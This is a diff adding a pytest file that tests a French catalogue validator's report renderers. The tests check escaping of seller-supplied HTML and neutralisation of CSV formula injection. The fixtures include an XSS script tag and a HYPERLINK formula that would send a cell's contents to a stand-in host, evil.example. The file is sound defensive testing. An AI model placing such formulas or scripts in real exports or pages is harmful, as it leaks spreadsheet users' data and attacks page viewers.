@@ -1,0 +1,395 @@
+"""The report renderers: JSON, annotated CSV, corrected CSV, HTML, text, and the files on disk."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from markupsafe import escape
+
+from catalog.columns import FULL_COLUMNS
+from catalog.issues import Issue
+from catalog.report import ProductResult, Report, Table
+from catalog.rules import issue
+from reports.annotated import neutralise, render_annotated_csv
+from reports.corrected import render_corrected_csv
+from reports.files import report_stem, write_reports
+from reports.html import render_html
+from reports.json_report import render_json
+from reports.text import render_text
+
+BOM = b"\xef\xbb\xbf"
+SCRIPT = "<script>alert('x')</script>"
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
+MULTILINE = "Perceuse sans fil.\nDeux batteries, chargeur rapide.\r\nGarantie 2 ans."
+
+
+def cells(**values: str) -> list[str]:
+    """A full-CSV row: every column empty except the ones given (underscores stand for spaces)."""
+    row = [""] * len(FULL_COLUMNS)
+    for name, value in values.items():
+        row[FULL_COLUMNS.index(name.replace("_", " "))] = value
+    return row
+
+
+def col(name: str) -> int:
+    return FULL_COLUMNS.index(name)
+
+
+@pytest.fixture
+def table() -> Table:
+    return Table(
+        header=list(FULL_COLUMNS),
+        rows=[
+            (2, cells(Handle="perceuse-18v", Title='Perceuse "Pro", 18V', **{"Body (HTML)": MULTILINE}, Type="Outils",
+                      Tags="Outils, Perceuses", Variant_Price="49,90", Option1_Name="Couleur",
+                      Option1_Value="Rouge")),
+            (3, cells(Handle="perceuse-18v", Option1_Value="+33 6 12 34 56 78", Variant_Price="49.90")),
+            (4, cells(Handle="tournevis", Title="Tournevis", **{"Body (HTML)": HYPERLINK}, Variant_Price="9.90",
+                      Tags="@SUM(A1)")),
+            (5, cells(Handle="tournevis", Variant_Grams="-12.5", Variant_Inventory_Qty="-5",
+                      Product_Policy="\tRetour 30 jours")),
+            (6, cells(Handle="marteau", Title=SCRIPT, Variant_Price="12.00")),
+            (7, cells(Handle="cle", Title="Clé à molette", Variant_Price="15.00")),
+        ],
+    )
+
+
+@pytest.fixture
+def issues() -> list[Issue]:
+    return [
+        issue("contact.phone", row=3, column="Option1 Value", product="perceuse-18v",
+              value="+33 6 12 34 56 78", found="+33 6 12 34 56 78"),
+        issue("tags.format", row=2, column="Tags", product="perceuse-18v", value="Outils, Perceuses",
+              problems_fr="espace après une virgule", problems_en="space after a comma", fixed="Outils,Perceuses"),
+        issue("sku.missing", row=4, column="Variant SKU", product="tournevis"),
+        issue("description.unsafe_html", row=6, column="Title", product="marteau", value=SCRIPT,
+              what="<script>"),
+        issue("seo.generated", row=6, product="marteau", fields_fr="SEO Title", fields_en="SEO Title",
+              generated="Marteau"),
+        issue("seo.title_caps", row=6, column="Title", product="marteau"),
+    ]
+
+
+@pytest.fixture
+def report(table: Table, issues: list[Issue]) -> Report:
+    return Report(
+        kind="full",
+        source="uploads/catalogue-mars.csv",
+        issues=issues,
+        products=[
+            ProductResult("perceuse-18v", [2, 3], "refused", ["contact.phone", "tags.format"]),
+            ProductResult("tournevis", [4, 5], "accepted", ["sku.missing"]),
+            ProductResult("marteau", [6], "refused", ["description.unsafe_html", "seo.generated",
+                                                      "seo.title_caps"]),
+            ProductResult("cle", [7], "accepted", []),
+        ],
+        row_count=6,
+        table=table,
+        corrections={(2, "Variant Price"): "49.90", (2, "Tags"): "Outils,Perceuses"},
+    )
+
+
+@pytest.fixture
+def rejected() -> Report:
+    """A file rejected before any row was read: no table, no products."""
+    return Report(kind="full", source="catalogue;point-virgule.csv", row_count=0, issues=[
+        issue("structure.delimiter", found="des points-virgules", found_en="semicolons"),
+    ])
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    assert data.startswith(BOM)
+    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))
+
+
+# ---- JSON -------------------------------------------------------------------
+
+
+def test_json_has_the_documented_shape(report: Report) -> None:
+    text = render_json(report)
+    data = json.loads(text)
+    assert list(data) == ["kind", "source", "status", "summary", "issues", "products"]
+    assert data["status"] == "partial"
+    assert data["summary"] == {"rows": 6, "products": 4, "accepted": 2, "refused": 2,
+                               "errors": 2, "warnings": 3, "infos": 1}
+    first = data["issues"][0]
+    assert list(first) == ["code", "severity", "row", "column", "product", "value", "message", "fix", "suggestions"]
+    assert set(first["message"]) == {"fr", "en"}
+    assert [i["row"] for i in data["issues"]] == sorted(i["row"] for i in data["issues"])
+    assert data["products"][0] == {"handle": "perceuse-18v", "rows": [2, 3], "status": "refused",
+                                   "codes": ["contact.phone", "tags.format"]}
+    assert "interdit" in text and "\\u00e9" not in text, "accents must be written as is (ensure_ascii=False)"
+    assert text == render_json(report), "the output is stable"
+
+
+def test_json_of_a_rejected_file(rejected: Report) -> None:
+    data = json.loads(render_json(rejected))
+    assert data["status"] == "rejected"
+    assert data["issues"][0]["row"] is None
+    assert data["issues"][0]["code"] == "structure.delimiter"
+    assert data["products"] == []
+
+
+# ---- Annotated CSV ----------------------------------------------------------
+
+
+def test_annotated_csv_keeps_the_sellers_cells_and_adds_two_columns(report: Report, table: Table) -> None:
+    data = render_annotated_csv(report)
+    assert data.startswith(BOM)
+    assert b"\r\nperceuse-18v," in data, "records end with CRLF"
+    rows = read_csv(data)
+    assert rows[0] == [*FULL_COLUMNS, "Statut", "Erreurs"]
+    assert len(rows) == 1 + len(table.rows)
+    for (_, original), written in zip(table.rows, rows[1:], strict=True):
+        assert len(written) == len(FULL_COLUMNS) + 2
+        assert written[:-2] == [neutralise(c) for c in original]
+    assert rows[1][col("Body (HTML)")] == MULTILINE
+    assert rows[1][col("Title")] == 'Perceuse "Pro", 18V'
+
+
+def test_annotated_status_and_errors_per_row(report: Report) -> None:
+    assert report.table is not None
+    numbers = [n for n, _ in report.table.rows]
+    rows = dict(zip(numbers, read_csv(render_annotated_csv(report))[1:], strict=True))
+    status = {n: r[-2] for n, r in rows.items()}
+    errors = {n: r[-1] for n, r in rows.items()}
+    assert status == {2: "Refusé", 3: "Refusé", 4: "Accepté avec avertissements", 5: "Accepté", 6: "Refusé",
+                      7: "Accepté"}
+    # Row 2 has only a warning: it says which row refused its product, then its own warning.
+    assert errors[2].split("\n") == [
+        "Produit refusé : voir ligne 3",
+        "[tags.format] Tags: Tags mal formés : espace après une virgule.",
+    ]
+    assert errors[3] == ("[contact.phone] Option1 Value: Numéro de téléphone interdit dans « Option1 Value » : "
+                         "+33 6 12 34 56 78.")
+    assert errors[4] == "[sku.missing] Variant SKU: Cette variante n'a pas de SKU."
+    assert errors[5] == "" and errors[7] == ""
+    # Errors first, then warnings, then infos; an issue without a column has no "Column:" part.
+    codes = [line.split("]")[0] + "]" for line in errors[6].split("\n")]
+    assert codes == ["[description.unsafe_html]", "[seo.title_caps]", "[seo.generated]"]
+    assert "[seo.generated] SEO Title vide" in errors[6]
+
+
+def test_annotated_rows_of_a_refused_product_without_own_issue_point_to_the_row(table: Table) -> None:
+    report = Report(kind="full", source="f.csv", table=table, row_count=6,
+                    issues=[issue("price.format", row=5, column="Variant Price", product="tournevis", value="9,9",
+                                  example="9.90")],
+                    products=[ProductResult("tournevis", [4, 5], "refused", ["price.format"])])
+    rows = read_csv(render_annotated_csv(report))
+    assert rows[3][-2:] == ["Refusé", "Produit refusé : voir ligne 5"]
+
+
+def test_annotated_neutralises_formulas_but_keeps_numbers(report: Report) -> None:
+    rows = read_csv(render_annotated_csv(report))
+    row3, row4, row5 = rows[2], rows[3], rows[4]
+    assert row3[col("Option1 Value")] == "'+33 6 12 34 56 78"
+    assert row4[col("Body (HTML)")] == "'" + HYPERLINK
+    assert row4[col("Tags")] == "'@SUM(A1)"
+    assert row5[col("Variant Grams")] == "-12.5"
+    assert row5[col("Variant Inventory Qty")] == "-5"
+    assert row5[col("Product Policy")] == "'\tRetour 30 jours"
+
+
+@pytest.mark.parametrize(("cell", "expected"), [
+    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
+    ("+33 6 12", "'+33 6 12"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("-1+2", "'-1+2"),
+    ("- point", "'- point"),
+    ("\rx", "'\rx"),
+    ("-5", "-5"),
+    ("-12.5", "-12.5"),
+    ("+33", "+33"),
+    ("-49,90", "-49,90"),
+    ("Perceuse = outil", "Perceuse = outil"),
+    ("", ""),
+])
+def test_neutralise(cell: str, expected: str) -> None:
+    assert neutralise(cell) == expected
+
+
+def test_annotated_neutralises_our_own_cells_too(table: Table) -> None:
+    table.header[0] = "=Handle"
+    report = Report(kind="full", source="f.csv", table=table, row_count=6)
+    assert read_csv(render_annotated_csv(report))[0][0] == "'=Handle"
+
+
+def test_annotated_short_and_long_rows_keep_status_aligned() -> None:
+    header = ["A", "B", "C"]
+    report = Report(kind="full", source="f.csv", row_count=2,
+                    table=Table(header=header, rows=[(2, ["a"]), (3, ["a", "b", "c", "d"])]))
+    rows = read_csv(render_annotated_csv(report))
+    assert rows[0] == ["A", "B", "C", "", "Statut", "Erreurs"]
+    assert rows[1] == ["a", "", "", "", "Accepté", ""]
+    assert rows[2] == ["a", "b", "c", "d", "Accepté", ""]
+
+
+def test_annotated_when_the_file_is_rejected_every_row_is_refused(table: Table) -> None:
+    report = Report(kind="full", source="f.csv", table=table, row_count=6, issues=[
+        issue("seller.not_ready", missing_fr="numéro de TVA manquant", missing_en="VAT number missing"),
+    ])
+    rows = read_csv(render_annotated_csv(report))[1:]
+    assert {r[-2] for r in rows} == {"Refusé"}
+    assert rows[0][-1].startswith("Fichier refusé : [seller.not_ready] Votre compte vendeur")
+
+
+def test_annotated_needs_a_table(rejected: Report) -> None:
+    with pytest.raises(ValueError, match="no table"):
+        render_annotated_csv(rejected)
+
+
+# ---- Corrected CSV ----------------------------------------------------------
+
+
+def test_corrected_applies_only_the_given_fixes(report: Report, table: Table) -> None:
+    data = render_corrected_csv(report)
+    assert data.startswith(BOM)
+    rows = read_csv(data)
+    assert rows[0] == list(FULL_COLUMNS)
+    assert len(rows) == 1 + len(table.rows)
+    expected = [list(c) for _, c in table.rows]
+    expected[0][col("Variant Price")] = "49.90"
+    expected[0][col("Tags")] = "Outils,Perceuses"
+    assert rows[1:] == expected
+    assert rows[2][col("Variant Price")] == "49.90"
+
+
+def test_corrected_does_not_neutralise_the_sellers_cells(report: Report) -> None:
+    rows = read_csv(render_corrected_csv(report))
+    assert rows[2][col("Option1 Value")] == "+33 6 12 34 56 78"
+    assert rows[3][col("Body (HTML)")] == HYPERLINK
+    assert rows[4][col("Product Policy")] == "\tRetour 30 jours"
+
+
+def test_corrected_withholds_a_fix_that_would_create_a_formula(report: Report, table: Table) -> None:
+    table.rows[5][1][col("Title")] = "\u200b=1+1"
+    table.rows[4][1][col("SEO Title")] = "=déjà une formule\u200b"
+    report.corrections = {
+        (7, "Title"): "=1+1",
+        (6, "SEO Title"): "=déjà une formule",
+        (7, "Variant Price"): "-15.00",
+        (7, "No Such Column"): "x",
+        (99, "Title"): "x",
+    }
+    rows = read_csv(render_corrected_csv(report))
+    assert rows[6][col("Title")] == "\u200b=1+1", "removing the invisible character would arm a formula"
+    assert rows[5][col("SEO Title")] == "=déjà une formule", "already formula-like: no new exposure"
+    assert rows[6][col("Variant Price")] == "-15.00"
+    assert len(rows) == 7 and all(len(r) == len(FULL_COLUMNS) for r in rows)
+
+
+# ---- HTML -------------------------------------------------------------------
+
+
+def test_html_escapes_seller_values(report: Report) -> None:
+    html = render_html(report, seller_name="Atelier <b>Dupont</b>")
+    assert "<script" not in html
+    assert str(escape(SCRIPT)) in html
+    assert "Atelier &lt;b&gt;Dupont&lt;/b&gt;" in html
+
+
+def test_html_is_self_contained(report: Report) -> None:
+    html = render_html(report)
+    assert html.startswith("<!DOCTYPE html>")
+    assert '<html lang="fr">' in html and 'lang="en"' in html
+    assert 'name="viewport"' in html
+    for external in ("<link", "src=", "@import", "url("):
+        assert external not in html
+
+
+def test_html_french_comes_before_english(report: Report, issues: list[Issue]) -> None:
+    html = render_html(report)
+    for found in issues:
+        fr, en = str(escape(found.message.fr)), str(escape(found.message.en))
+        assert html.index(fr) < html.index(en)
+        assert html.index(str(escape(found.fix.fr))) < html.index(str(escape(found.fix.en)))
+    assert html.index("Partiellement accepté") < html.index("Partially accepted")
+
+
+def test_html_summary_groups_and_compact_list(report: Report) -> None:
+    html = render_html(report)
+    assert "st-partial" in html
+    assert "Problèmes du fichier" not in html, "no file-level issue here"
+    # Refused products first, then accepted ones with warnings, then accepted ones without issues.
+    order = [html.index(f"<h3>{h}</h3>") for h in ("perceuse-18v", "marteau", "tournevis")]
+    assert order == sorted(order)
+    compact = html.index("Acceptés sans remarque")
+    assert html.index("cle", compact) > compact
+    assert "<h3>cle</h3>" not in html
+    assert "+33 6 12 34 56 78" in html, "the offending value is shown"
+
+
+def test_html_of_a_rejected_file(rejected: Report) -> None:
+    html = render_html(rejected)
+    assert "Problèmes du fichier" in html
+    assert "st-rejected" in html and "Refusé" in html
+    assert "structure.delimiter" in html
+
+
+# ---- Text -------------------------------------------------------------------
+
+
+def test_text_lists_issues_by_product(report: Report) -> None:
+    lines = render_text(report).splitlines()
+    assert lines[0].startswith("uploads/catalogue-mars.csv : partiellement accepté")
+    assert "4 produits (2 acceptés, 2 refusés)" in lines[0]
+    assert "2 erreurs, 3 avertissements, 1 info" in lines[0]
+    phone = next(i for i, line in enumerate(lines) if "contact.phone" in line)
+    assert lines[phone].endswith(
+        "ligne 3 · Option1 Value · contact.phone · Numéro de téléphone interdit dans « Option1 Value » : "
+        "+33 6 12 34 56 78.")
+    assert lines[phone - 2].startswith("perceuse-18v (lignes 2–3) : refusé")
+    assert lines[-1].startswith("2 produits refusés sur 4")
+    assert "\x1b[" not in "\n".join(lines)
+
+
+def test_text_limit(report: Report) -> None:
+    text = render_text(report, limit=2)
+    assert sum(1 for line in text.splitlines() if line.startswith("  [")) == 2
+    assert "… et 4 autres problèmes" in text
+
+
+def test_text_of_a_rejected_file(rejected: Report) -> None:
+    text = render_text(rejected)
+    assert text.splitlines()[0] == "catalogue;point-virgule.csv : refusé · 1 erreur, 0 avertissement, 0 info"
+    assert "structure.delimiter · Les colonnes sont séparées par des points-virgules" in text
+    assert text.splitlines()[-1].startswith("Fichier refusé")
+
+
+# ---- Files ------------------------------------------------------------------
+
+
+def test_write_reports(report: Report, tmp_path: Path) -> None:
+    out = tmp_path / "out" / "deep"
+    paths = write_reports(report, out)
+    assert set(paths) == {"json", "annotated", "corrected", "html"}
+    assert {p.name for p in paths.values()} == {
+        "catalogue-mars.rapport.json", "catalogue-mars.annote.csv", "catalogue-mars.corrige.csv",
+        "catalogue-mars.rapport.html"}
+    assert all(p.parent == out and p.is_file() for p in paths.values())
+    assert json.loads(paths["json"].read_text(encoding="utf-8"))["status"] == "partial"
+    assert paths["annotated"].read_bytes() == render_annotated_csv(report)
+    assert paths["corrected"].read_bytes() == render_corrected_csv(report)
+
+
+def test_write_reports_without_a_table(rejected: Report, tmp_path: Path) -> None:
+    paths = write_reports(rejected, tmp_path)
+    assert set(paths) == {"json", "html"}
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["catalogue_point-virgule.rapport.html",
+                                                          "catalogue_point-virgule.rapport.json"]
+
+
+@pytest.mark.parametrize(("source", "stem"), [
+    ("catalogue-mars.csv", "catalogue-mars"),
+    ("/data/in/Catalogue Mars.csv", "Catalogue_Mars"),
+    ("C:\\Users\\x\\prix.csv", "prix"),
+    ("https://shop.example/feeds/google.xml?token=1", "google"),
+    ("https://shop.example/", "shop"),
+    ("../..", "rapport"),
+])
+def test_report_stem(source: str, stem: str) -> None:
+    assert report_stem(source) == stem
